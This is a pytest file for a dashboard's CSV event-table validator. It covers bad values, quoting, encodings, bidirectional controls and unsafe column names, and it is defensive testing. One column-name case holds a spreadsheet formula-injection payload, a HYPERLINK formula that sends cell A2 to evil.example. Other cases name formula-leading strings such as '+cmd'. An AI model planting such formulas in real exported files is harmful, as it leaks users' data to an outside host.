"""Validator: each kind of problem is caught, named with line and column, and only that row skipped."""

from __future__ import annotations

import codecs

import pandas as pd
import pytest

import dashboard.data
from dashboard.data import Problem, column_name_problem, decode, load_events, read_rows
from dashboard.schema import EVENT_COLUMNS, MAX_COLUMNS
from tests.conftest import load_rows, row, table_bytes

# (cells to change, column named, words the reason must contain)
BAD_ROWS = [
    ({"event_id": ""}, "event_id", "required value is empty"),
    ({"event_id": "Not A Slug"}, "event_id", "not a slug"),
    ({"title": ""}, "title", "required value is empty"),
    ({"title": "x" * 301}, "title", "301 characters"),
    ({"evidence": ""}, "evidence", "required value is empty"),
    ({"evidence": "e" * 201}, "evidence", "at most 200"),
    ({"category": "party"}, "category", "unknown category 'party'"),
    ({"date_start": "2018-13-40"}, "date_start", "month 13"),
    ({"date_start": "2018-02-30", "date_end": ""}, "date_start", "day 30 does not exist"),
    ({"date_start": "next year"}, "date_start", "not an ISO date"),
    ({"date_start": "2018-11-15", "date_end": "2018-11-13"}, "date_end", "before date_start"),
    ({"date_start": "", "date_end": "2018"}, "date_end", "end given without a start"),
    ({"date_inferred": "maybe"}, "date_inferred", "not true or false"),
    ({"date_inferred": "true", "date_inference_note": ""}, "date_inference_note", "no date_inference_note"),
    ({"place_inferred": "yes?"}, "place_inferred", "not true or false"),
    (
        {"place_inferred": "true", "place_inference_note": " "},
        "place_inference_note",
        "no place_inference_note",
    ),
    ({"lat": "95"}, "lat", "outside -90..90"),
    ({"lon": "200"}, "lon", "outside -180..180"),
    ({"lat": "NaN"}, "lat", "not a finite number"),
    ({"lon": "east"}, "lon", "not a finite number"),
    ({"lat": ""}, "lat,lon", "both lat and lon"),
    ({"country_iso3": "XXX"}, "country_iso3", "unknown ISO3 code 'XXX'"),
    ({"participants": "RUS;XXX"}, "participants", "unknown ISO3 code 'XXX'"),
    ({"organisations": "ASEAN;NOPE"}, "organisations", "unknown organisation 'NOPE'"),
    ({"value": "lots", "unit": "USD"}, "value", "not a finite number"),
    ({"value": "5"}, "unit", "a value needs its unit"),
    ({"article": "9"}, "article", "not in sources.csv"),
    ({"article": "one"}, "article", "not a whole number"),
    ({"lat": "-26.2", "lon": "28.04"}, "lat,lon", "more than 25 km outside SGP"),
]


@pytest.mark.parametrize(
    ("change", "column", "words"), BAD_ROWS, ids=[f"{c}-{i}" for i, (_, c, _) in enumerate(BAD_ROWS)]
)
def test_each_problem_is_named_and_only_its_row_skipped(tiny_ref, change, column, words):
    good = row(event_id="good-row")
    result = load_rows([good, row(**change)], tiny_ref)
    assert result.rows_read == 2
    assert result.rows_loaded == 1, [str(p) for p in result.problems]
    assert list(result.frame["event_id"]) == ["good-row"]
    assert any(p.line == 3 and p.column == column and words in p.reason for p in result.problems), [
        str(p) for p in result.problems
    ]


def test_valid_table_loads_typed(tiny_ref):
    result = load_rows([row(), row(event_id="b", value="7400000000", unit="USD", category="trade")], tiny_ref)
    assert result.ok
    frame = result.frame
    assert list(frame.columns) == list(EVENT_COLUMNS)
    assert frame["lat"].dtype == float
    assert frame.loc[1, "value"] == 7.4e9
    assert frame["article"].tolist() == [1, 1]
    assert frame["date_inferred"].tolist() == [False, False]


def test_every_problem_is_reported_not_just_the_first(tiny_ref):
    result = load_rows([row(category="x", country_iso3="XXX", date_start="soon")], tiny_ref)
    columns = {p.column for p in result.problems}
    assert {"category", "country_iso3", "date_start"} <= columns


def test_duplicate_id_names_the_first_line(tiny_ref):
    result = load_rows([row(), row(), row()], tiny_ref)
    assert result.rows_loaded == 1
    dups = [p for p in result.problems if "duplicate id" in p.reason]
    assert [p.line for p in dups] == [3, 4]
    assert all("first on line 2" in p.reason for p in dups)


def test_problem_formats_as_file_line_column_reason():
    assert (
        str(Problem("events.csv", 7, "lat", "95 is outside -90..90"))
        == "events.csv:7: lat: 95 is outside -90..90"
    )


def test_missing_column_loads_nothing(tiny_ref):
    columns = [c for c in EVENT_COLUMNS if c != "evidence"]
    result = load_events(table_bytes([row()], columns), tiny_ref, frozenset({1}), name="m.csv")
    assert result.rows_loaded == 0
    assert [(p.line, p.column) for p in result.problems] == [(1, "evidence")]


def test_extra_columns_are_kept(tiny_ref):
    columns = [*EVENT_COLUMNS, "my_note"]
    result = load_events(table_bytes([row(my_note="hello")], columns), tiny_ref, frozenset({1}))
    assert result.ok
    assert result.frame.loc[0, "my_note"] == "hello"
    assert result.extra_columns == ("my_note",)


def test_line_numbers_count_physical_lines_of_quoted_newlines(tiny_ref):
    rows = [row(event_id="a", summary="two\nlines"), row(event_id="b", category="bad")]
    result = load_rows(rows, tiny_ref)
    assert [p.line for p in result.problems] == [4]


def test_wrong_field_count_is_reported(tiny_ref):
    raw = table_bytes([row()]) + b"only,three,fields\n"
    result = load_events(raw, tiny_ref, frozenset({1}), name="w.csv")
    assert result.rows_loaded == 1
    assert str(result.problems[0]) == "w.csv:3: -: expected 20 fields, found 3"


@pytest.mark.parametrize(
    ("raw", "expected"),
    [(b"", "file is empty"), (",".join(EVENT_COLUMNS).encode() + b"\n", "header only")],
)
def test_empty_and_header_only(tiny_ref, raw, expected):
    result = load_events(raw, tiny_ref, frozenset({1}), name="e.csv")
    assert result.rows_loaded == 0
    assert expected in result.problems[0].reason


def test_bom_and_crlf_are_read(tiny_ref):
    raw = "\ufeff".encode() + table_bytes([row()], newline="\r\n")
    result = load_events(raw, tiny_ref, frozenset({1}))
    assert result.ok, [str(p) for p in result.problems]


def test_latin1_is_read_with_a_warning():
    text, problems = decode("Société".encode("latin-1"), "l.csv")
    assert text == "Société"
    assert problems[0].severity == "warning" and "not UTF-8" in problems[0].reason


def test_read_rows_skips_blank_lines():
    rows = read_rows("a,b\n1,2\n\n3,4\n", "x.csv")
    assert rows.header == ["a", "b"] and rows.lines == [2, 4] and rows.records == [["1", "2"], ["3", "4"]]
    assert not rows.problems and rows.rows_read == 2


def test_neutralised_cells_are_restored(tiny_ref):
    result = load_rows([row(title="'=SUM(A1)")], tiny_ref)
    assert result.frame.loc[0, "title"] == "=SUM(A1)"


def test_input_rows_are_not_mutated(tiny_ref):
    rows = [row()]
    before = [dict(r) for r in rows]
    load_rows(rows, tiny_ref)
    assert rows == before


@pytest.mark.parametrize(
    ("change", "ok"),
    [
        ({"country_iso3": "", "place": "", "lat": "", "lon": "", "organisations": "ASEAN"}, True),
        ({"country_iso3": "", "place": "", "lat": "", "lon": "", "organisations": ""}, False),
        ({"country_iso3": "", "organisations": "ASEAN"}, False),  # a place needs its country
    ],
)
def test_country_may_be_empty_only_for_organisation_rows_without_place(tiny_ref, change, ok):
    result = load_rows([row(**change)], tiny_ref)
    assert result.ok is ok, [str(p) for p in result.problems]


@pytest.mark.parametrize("date", ["٢٠١٨", "２０１８-11", "2018-1１"])
def test_dates_must_use_ascii_digits(tiny_ref, date):
    result = load_rows([row(date_start=date, date_end="")], tiny_ref)
    assert [p.column for p in result.problems] == ["date_start"]


# ----- reading: every line accounted for ----------------------------------------------------------
# (text, first line of each record, records, problems, rows read)
READS = [
    pytest.param(
        'a,b,c\n1,"x\ny",3\n4,5,6\n',
        [2, 4],
        [["1", "x\ny", "3"], ["4", "5", "6"]],
        [],
        2,
        id="multi-line-field",
    ),
    pytest.param('a,b,c\r\n1,"x\r\ny",3\r\n', [2], [["1", "x\r\ny", "3"]], [], 1, id="quoted-crlf"),
    pytest.param('a,b,c\n1,5" screen,3\n', [2], [["1", '5" screen', "3"]], [], 1, id="quote-inside-a-field"),
    pytest.param(
        'a,b,c\n1,"two\nlines"\n4,5,6\n',
        [2, 4],
        [["1", "two\nlines"], ["4", "5", "6"]],  # kept: the validator names the missing field
        [],
        2,
        id="multi-line-record-short-of-a-field",
    ),
    pytest.param(
        'a,b,c\n1,"x,3\n4,5,6\n7,"q",9\n10,11,12\n',
        [3, 4, 5],
        [["4", "5", "6"], ["7", "q", "9"], ["10", "11", "12"]],
        [
            "x.csv:2: -: unclosed quote; lines 2-4 read as one field: "
            "line 2 skipped, lines 3-4 read again as rows"
        ],
        4,
        id="unclosed-quote-closed-by-a-later-one",
    ),
    pytest.param(
        'a,b,c\n1,"x,3\n4,5,6\n',
        [3],
        [["4", "5", "6"]],
        [
            "x.csv:2: -: unclosed quote; lines 2-3 read as one field, to the end of the file: "
            "line 2 skipped, line 3 read again as rows"
        ],
        2,
        id="unclosed-quote-to-the-end",
    ),
    pytest.param(
        'a,b,c\n1,2,3\n4,"5,6\n',
        [2],
        [["1", "2", "3"]],
        ["x.csv:3: -: unclosed quote; the field runs to the end of the file: line 3 skipped"],
        2,
        id="unclosed-quote-in-the-last-row",
    ),
    pytest.param(
        'a,b,c\n1,2,3\n4,"5,6',
        [2],
        [["1", "2", "3"]],
        ["x.csv:3: -: unclosed quote; the field runs to the end of the file: line 3 skipped"],
        2,
        id="unclosed-quote-no-final-newline",
    ),
    pytest.param(
        "a,b,c\n1," + "x" * 100_001 + ",3\n4,5,6\n",
        [3],
        [["4", "5", "6"]],
        ["x.csv:2: -: a field is longer than 100,000 characters: row skipped"],
        2,
        id="oversized-field",
    ),
]


@pytest.mark.parametrize(("text", "lines", "records", "problems", "rows_read"), READS)
def test_read_rows_accounts_for_every_line(text, lines, records, problems, rows_read):
    rows = read_rows(text, "x.csv")
    assert rows.header == ["a", "b", "c"]
    assert (rows.lines, rows.records, [str(p) for p in rows.problems]) == (lines, records, problems)
    assert rows.rows_read == rows_read == len(records) + rows.unreadable


def test_an_unclosed_quote_in_the_header_loads_nothing_but_counts_the_rows():
    rows = read_rows('a,"b,c\n1,2,3\n4,5,6\n', "x.csv")
    assert rows.header == [] and rows.rows_read == 2
    assert [str(p) for p in rows.problems] == [
        "x.csv:1: -: unclosed quote in the header (lines 1-3 read as one field): no row can be loaded"
    ]


def test_blank_lines_before_the_header_are_skipped():
    rows = read_rows("\n\na,b,c\n1,2,3\n", "x.csv")
    assert (rows.header, rows.header_line, rows.lines, rows.problems) == (["a", "b", "c"], 3, [4], [])


def _plain(rows: list[dict[str, str]]) -> list[str]:
    """Rows as unquoted CSV lines (their cells hold no commas), to break by hand."""
    return [",".join(EVENT_COLUMNS)] + [",".join(r[c] for c in EVENT_COLUMNS) for r in rows]


def test_a_stray_quote_costs_only_its_own_row(tiny_ref):
    lines = _plain([row(event_id=f"e{i}") for i in range(1, 11)])
    lines[3] = lines[3].replace("Summit in Singapore", '"Summit in Singapore')  # the row on line 4
    result = load_events("\n".join(lines).encode() + b"\n", tiny_ref, frozenset({1}), name="q.csv")
    assert [str(p) for p in result.problems] == [
        "q.csv:4: -: unclosed quote; lines 4-11 read as one field, to the end of the file: "
        "line 4 skipped, lines 5-11 read again as rows"
    ]
    assert list(result.frame["event_id"]) == [f"e{i}" for i in (1, 2, 4, 5, 6, 7, 8, 9, 10)]
    assert result.summary("q.csv") == "q.csv: 9 of 10 rows loaded, 1 skipped, 1 problem"


def test_an_oversized_field_is_counted_as_skipped(tiny_ref):
    raw = table_bytes([row(event_id="a"), row(event_id="b", summary="x" * 100_001), row(event_id="c")])
    result = load_events(raw, tiny_ref, frozenset({1}), name="o.csv")
    assert [str(p) for p in result.problems] == [
        "o.csv:3: -: a field is longer than 100,000 characters: row skipped"
    ]
    assert (result.rows_read, result.rows_loaded, result.rows_skipped) == (3, 2, 1)


# ----- encodings -----------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("encoding", "bom", "told"),
    [
        ("utf-16-le", codecs.BOM_UTF16_LE, "UTF-16 (little-endian, with a byte order mark): read as UTF-16"),
        ("utf-16-be", codecs.BOM_UTF16_BE, "UTF-16 (big-endian, with a byte order mark): read as UTF-16"),
        ("utf-16-le", b"", "UTF-16 (little-endian, no byte order mark): read as UTF-16"),
        ("utf-16-be", b"", "UTF-16 (big-endian, no byte order mark): read as UTF-16"),
        ("utf-32-le", codecs.BOM_UTF32_LE, "UTF-32 (little-endian, with a byte order mark): read as UTF-32"),
    ],
)
def test_wide_encodings_are_read_and_named(encoding, bom, told):
    text = "event_id,title\nx,Société “Ünïcödé” Москва\n"
    decoded, problems = decode(bom + text.encode(encoding), "w.csv")
    assert decoded == text
    assert [str(p) for p in problems] == [f"w.csv:1: -: this file is {told}; save it as UTF-8"]
    assert problems[0].severity == "warning"


def test_broken_utf16_says_where():
    decoded, problems = decode(codecs.BOM_UTF16_LE + "a,b\n".encode("utf-16-le") + b"\x00", "b.csv")
    assert decoded == "a,b\n\ufffd"
    assert problems[0].reason.endswith(
        "save it as UTF-8; bytes at offset 10 are not valid UTF-16 (read as U+FFFD)"
    )


def test_utf16_table_loads(tiny_ref):
    raw = codecs.BOM_UTF16_LE + table_bytes([row(title="Société")]).decode().encode("utf-16-le")
    result = load_events(raw, tiny_ref, frozenset({1}), name="u.csv")
    assert result.rows_loaded == 1 and result.frame.loc[0, "title"] == "Société"
    assert [p.severity for p in result.problems] == ["warning"]


# ----- column names and width -----------------------------------------------------------------------
@pytest.mark.parametrize(
    ("name", "why"),
    [
        ("analyst_note", ""),
        ("Notes (2019) – Ünïcödé", ""),
        ("a=b", ""),
        ("", "column has no name"),
        ("n" * 101, "name is 101 characters; at most 100"),
        (
            '=HYPERLINK("http://evil.example/?"&A2,"Click")',
            "name starts with '=', which a spreadsheet reads as a formula",
        ),
        ("+cmd", "name starts with '+', which a spreadsheet reads as a formula"),
        ("-x", "name starts with '-', which a spreadsheet reads as a formula"),
        ("@SUM(A1)", "name starts with '@', which a spreadsheet reads as a formula"),
        ("a\tb\x1b", "name holds control characters (U+0009, U+001B)"),
        ("a\u202eb", "name holds control characters (U+202E)"),
        ("partners", "the dashboard derives a column of this name, which would overwrite yours"),
        ("year_start", "the dashboard derives a column of this name, which would overwrite yours"),
    ],
)
def test_column_name_rules(name, why):
    assert column_name_problem(name) == why


def test_unsafe_columns_are_not_loaded_and_rows_are_kept(tiny_ref):
    columns = [*EVENT_COLUMNS, "=cmd", "partners", "note"]
    raw = table_bytes([row(**{"=cmd": "x", "partners": "FRA", "note": "kept"})], columns)
    result = load_events(raw, tiny_ref, frozenset({1}), name="c.csv")
    assert [str(p) for p in result.problems] == [
        "c.csv:1: '=cmd': name starts with '=', which a spreadsheet reads as a formula; column not loaded",
        "c.csv:1: partners: the dashboard derives a column of this name, which would overwrite yours; "
        "column not loaded",
    ]
    assert result.rows_loaded == 1 and result.extra_columns == ("note",)
    assert list(result.frame.columns) == [*EVENT_COLUMNS, "note"] and result.frame.loc[0, "note"] == "kept"


def test_a_neutralised_column_name_is_read_like_a_neutralised_cell(tiny_ref):
    """`'=x` is the exporter's mark on `=x`: undone, then refused like `=x` itself."""
    raw = table_bytes([row(**{"'=x": "1"})], [*EVENT_COLUMNS, "'=x"])
    result = load_events(raw, tiny_ref, frozenset({1}), name="c.csv")
    assert [p.column for p in result.problems] == ["'=x'"]
    assert result.extra_columns == ()


def test_column_names_that_differ_in_letter_case_are_not_duplicates_but_one_is_not_loaded(tiny_ref):
    """Not a duplicate (the row loads), but DuckDB, which reads cached tables, cannot tell the
    two apart: the second is not loaded, with a warning (see the test below)."""
    raw = table_bytes([row()], [*EVENT_COLUMNS, "note", "Note"])
    result = load_events(raw, tiny_ref, frozenset({1}))
    assert result.rows_loaded == 1 and result.extra_columns == ("note",)
    assert [(p.column, p.severity) for p in result.problems] == [("'Note'", "warning")]


@pytest.mark.parametrize(("width", "ok"), [(MAX_COLUMNS, True), (MAX_COLUMNS + 1, False)])
def test_the_column_cap(tiny_ref, width, ok):
    columns = [*EVENT_COLUMNS, *(f"x{i}" for i in range(width - len(EVENT_COLUMNS)))]
    result = load_events(table_bytes([row()], columns), tiny_ref, frozenset({1}), name="w.csv")
    assert result.ok is ok
    if not ok:
        assert [str(p) for p in result.problems] == [
            "w.csv:1: -: 101 columns; at most 100: no row can be loaded"
        ]
        assert (result.rows_read, result.rows_loaded) == (1, 0)


def test_a_wide_table_is_refused_before_any_frame_is_built(tiny_ref, monkeypatch):
    def no_frame(*args, **kwargs):
        raise AssertionError("a frame was built for a table that is refused")

    monkeypatch.setattr(dashboard.data, "_Table", no_frame)
    columns = [*EVENT_COLUMNS, *(f"x{i}" for i in range(9_980))]
    result = load_events(table_bytes([row()], columns), tiny_ref, frozenset({1}), name="w.csv")
    assert [str(p) for p in result.problems] == [
        "w.csv:1: -: 10,000 columns; at most 100: no row can be loaded"
    ]


# ----- bidirectional controls ------------------------------------------------------------------------
def test_bidi_controls_are_removed_with_a_warning(tiny_ref):
    result = load_rows([row(event_id="a"), row(event_id="b", title="Summit \u202eeropagniS\u202c")], tiny_ref)
    assert [str(p) for p in result.problems] == [
        "t.csv:3: title: bidirectional controls removed (U+202E, U+202C): they can make text display in "
        "another order"
    ]
    assert result.problems[0].severity == "warning"
    assert result.rows_loaded == 2 and result.frame.loc[1, "title"] == "Summit eropagniS"


@pytest.mark.parametrize("char", [chr(c) for c in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))])
def test_every_bidi_control_is_removed(tiny_ref, char):
    result = load_rows([row(summary=f"a{char}b", place=f"{char}Singapore")], tiny_ref)
    assert result.rows_loaded == 1
    assert (result.frame.loc[0, "summary"], result.frame.loc[0, "place"]) == ("ab", "Singapore")
    assert [p.column for p in result.problems] == ["place", "summary"]


def test_other_format_characters_are_kept(tiny_ref):
    """Only the controls that reorder text go: a zero-width joiner or a soft hyphen is data."""
    result = load_rows([row(summary="a\u200db\u00adc\u200fd")], tiny_ref)
    assert result.ok and result.frame.loc[0, "summary"] == "a\u200db\u00adc\u200fd"


def test_a_look_alike_letter_is_not_upper_cased_into_a_valid_code(tiny_ref):
    # `str.upper("ruſ")` is "RUS": a long s must not pass as Russia's code.
    result = load_rows([row(participants="ruſ;sgp")], tiny_ref)
    assert [str(p).split(": ", 1)[1] for p in result.problems] == ["participants: unknown ISO3 code 'ruſ'"]


# ----- the columnar reader and the exact one give the same result --------------------------------

BOM_FIRST = ("title", *(c for c in EVENT_COLUMNS if c != "title"))
HOSTILE_DIR = dashboard.data.REPO_DIR / "tests" / "data" / "hostile"
CLEAN_TABLES = {
    "quoted": table_bytes([row(event_id=f"e-{i}", title=f'Say "hi", {i}') for i in range(30)]),
    "unquoted": "\n".join(
        [",".join(EVENT_COLUMNS)] + [",".join(row(event_id=f"u-{i}").values()) for i in range(30)]
    ).encode(),
    "blank lines, CRLF": table_bytes([row(event_id=f"c-{i}") for i in range(5)], newline="\r\n").replace(
        b"\r\n", b"\r\n\r\n", 3
    ),
    "duplicates far apart": table_bytes(
        [row(event_id=f"d-{i % 17}", lat="95" if i == 40 else "1.29") for i in range(60)]
    ),
    "wrong width late": table_bytes([row(event_id=f"w-{i}") for i in range(40)]) + b"a,b\n",
    # U+FEFF opening the first record: pyarrow would drop it as a byte order mark.
    "BOM opening the first record": "\n\ufeff".join(
        [",".join(BOM_FIRST), ",".join(row(event_id="b-1")[c] for c in BOM_FIRST)]
    ).encode(),
}


def _both_ways(source, ref, name, batch_bytes=dashboard.data.BATCH_BYTES):
    articles = frozenset({1, 2, 3, 4})
    fast = load_events(source, ref, articles, name=name, batch_bytes=batch_bytes)
    exact = load_events(source, ref, articles, name=name, engine="exact")
    assert [str(p) for p in fast.problems] == [str(p) for p in exact.problems]
    assert [p.severity for p in fast.problems] == [p.severity for p in exact.problems]
    assert (fast.rows_read, fast.rows_loaded, fast.extra_columns) == (
        exact.rows_read,
        exact.rows_loaded,
        exact.extra_columns,
    )
    pd.testing.assert_frame_equal(fast.frame, exact.frame)
    return fast


@pytest.mark.parametrize("path", sorted(HOSTILE_DIR.glob("*.csv")), ids=lambda p: p.name)
def test_hostile_tables_read_the_same_both_ways(real_ref, path):
    _both_ways(path, real_ref, path.name)


@pytest.mark.parametrize("batch_bytes", [dashboard.data.BATCH_BYTES, 1500], ids=["one batch", "many batches"])
@pytest.mark.parametrize("name", sorted(CLEAN_TABLES))
def test_clean_tables_read_the_same_both_ways(tiny_ref, name, batch_bytes):
    _both_ways(CLEAN_TABLES[name], tiny_ref, "t.csv", batch_bytes)


def test_the_shipped_table_reads_the_same_both_ways(real_ref):
    assert _both_ways(dashboard.data.DEFAULT_EVENTS, real_ref, "events.csv").ok


def test_duplicates_across_batches_name_the_first_line(tiny_ref):
    result = _both_ways(CLEAN_TABLES["duplicates far apart"], tiny_ref, "t.csv", batch_bytes=1500)
    dups = [p for p in result.problems if "duplicate id" in p.reason]
    assert len(dups) == 60 - 17
    assert str(dups[-1]) == "t.csv:61: event_id: duplicate id 'd-8', first on line 10"


def test_a_sink_takes_the_batches_and_the_result_counts_them(tiny_ref):
    sink = dashboard.data.Sink()
    result = load_events(CLEAN_TABLES["quoted"], tiny_ref, frozenset({1}), sink=sink, batch_bytes=1500)
    assert len(sink.frames) > 1
    assert sum(len(f) for f in sink.frames) == result.rows_loaded == 30


@pytest.mark.parametrize(
    ("extra", "kept", "warned"),
    [
        (["_row"], [], {"_row": "the dashboard's query engine uses this name for each event's position"}),
        (["_ROW"], [], {"_ROW": "the dashboard's query engine uses this name for each event's position"}),
        (
            ["Year_Start"],
            [],
            {"Year_Start": "the dashboard derives a column of this name, which would overwrite yours"},
        ),
        (["Note", "note"], ["Note"], {"note": "another column has this name in other letter case"}),
        (["DATE_START"], [], {"DATE_START": "another column has this name in other letter case"}),
        (["note", "remark"], ["note", "remark"], {}),
    ],
)
@pytest.mark.parametrize("plain", [True, False], ids=["columnar reader", "exact reader"])
def test_extra_columns_the_engine_cannot_tell_apart_are_not_loaded(tiny_ref, extra, kept, warned, plain):
    """DuckDB reads cached tables with names blind to letter case, and keeps `_row` for each
    event's position: such extra columns are not loaded, with a warning naming them."""
    rows = [row(event_id=f"e-{k}", **{c: f"{c}{k}" for c in extra}) for k in range(3)]
    if not plain:  # a quoted line break: the file is not plain, the exact reader reads it
        rows[0]["summary"] = "one line\nand another"
    raw = table_bytes(rows, columns=[*EVENT_COLUMNS, *extra])
    result = load_events(raw, tiny_ref, frozenset({1, 2, 3, 4}), name="t.csv")
    assert list(result.extra_columns) == kept
    assert result.rows_loaded == 3
    found = {p.column: p for p in result.problems}
    for column, why in warned.items():
        problem = found[repr(column)]  # named as `_show` names a column: quoted
        assert problem.reason.startswith(why) and problem.reason.endswith("; column not loaded")
        assert problem.severity == "warning"
